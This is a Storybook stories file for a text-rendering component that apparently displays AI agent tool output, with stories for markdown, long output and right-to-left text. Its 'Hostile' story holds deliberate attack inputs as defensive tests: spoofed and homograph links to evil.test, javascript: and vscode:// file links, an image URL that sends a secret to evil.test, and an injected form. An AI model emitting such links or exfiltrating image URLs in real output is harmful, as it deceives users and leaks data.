import type { Meta, StoryObj } from "@storybook/react-vite";
import { TextView, ToolCallKitProvider } from "acp-tool-calls";
import { expect, waitFor } from "storybook/test";
import { Recorded } from "./content/Recorded.js";

const meta: Meta<typeof TextView> = {
  title: "Content/Text",
  component: TextView,
  args: { stateKey: "story" },
};
export default meta;

type Story = StoryObj<typeof TextView>;

const REPORT = `## Why the delay overflows

\`backoff()\` doubles **without a cap**; after 31 attempts \`2 ** attempt\` is past the 32-bit timer limit and fires *at once*. See [the retry notes](https://docs.example.org/retry) and https://nodejs.org/api/timers.html.

1. Cap the exponent at \`MAX_EXPONENT\`
2. Clamp the result
   - jitter comes last
   - never below \`BASE_MS\`

- [x] unit test for the cap
- [ ] property test for the jitter

| attempt | before | after |
|--------:|-------:|------:|
| 5 | 3.2 s | 3.2 s |
| 12 | 409.6 s | 30 s |
| 40 | ~~0 s~~ | 30 s |

> The old behaviour was relied on by nobody: \`rg "2 \\*\\*"\` finds one call.

\`\`\`ts
export function backoff(attempt: number): number {
  const exponent = Math.min(attempt, MAX_EXPONENT);
  return Math.min(BASE_MS * 2 ** exponent, MAX_MS); // never past the cap
}
\`\`\`
`;

/** CommonMark with tables, task lists, strikethrough and autolinks. */
export const Markdown: Story = {
  args: { text: REPORT },
  play: async ({ canvas }) => {
    await expect(await canvas.findByRole("heading", { name: /delay overflows/ })).toBeVisible();
    await expect(await canvas.findByRole("link", { name: "the retry notes docs.example.org" })).toBeVisible();
  },
};

/** Links that lie, addresses that are no links, an image that would tell its server who reads this. */
export const Hostile: Story = {
  args: {
    text: `[github.com](https://evil.test/login), [GitHub](https://github.com@evil.test), [аpple](https://xn--pple-43d.com)

[run](javascript:alert(1)), [editor](vscode://file/etc/passwd), [here](//evil.test), [out](/api/logout)

![a chart](https://evil.test/p.png?q=SECRET)

<form action="https://evil.test"><button>Allow</button></form>

Returns Promise<void> or Map<string, Seed[]>. a < b && c > d`,
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(await canvas.findByRole("link", { name: "github.com leads to evil.test" })).toBeVisible();
    await expect(canvas.queryByRole("button", { name: "Allow" })).toBeNull();
    await expect(canvasElement.querySelector("[src]")).toBeNull();
  },
};

/** A host that asks before it loads a remote image. */
export const RemoteImageOnDemand: Story = {
  args: { text: "![Build status](https://ci.example.org/badge.svg)" },
  render: (args) => (
    <ToolCallKitProvider mediaPolicy={{ remoteImages: () => "ask" }}>
      <TextView {...args} />
    </ToolCallKitProvider>
  ),
};

/** Colours that an agent put between fences. */
export const TerminalColours: Story = { render: () => <Recorded recording="claude-bare-shell" /> };

/** Output that was sent as text and replaced as it grew. */
export const OutputAsText: Story = { render: () => <Recorded recording="opencode-rich-shell" /> };

export const Long: Story = {
  args: { text: Array.from({ length: 400 }, (_, i) => `packages/core/src/module-${i}.ts`).join("\n") },
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(await canvas.findByRole("button", { name: "Show 360 more lines" }));
    await waitFor(() => expect(canvas.getByText(/module-399/)).toBeVisible());
  },
};

/** Right-to-left prose keeps its direction, code in it keeps its own. */
export const RightToLeft: Story = {
  args: {
    text: "تم تعديل `src/app.ts` بنجاح، وأُضيف اختبار في `test/app.test.ts`.\n\n- الخطوة الأولى\n- الخطوة الثانية\n\n```\nlet x = 1;\n```",
  },
};
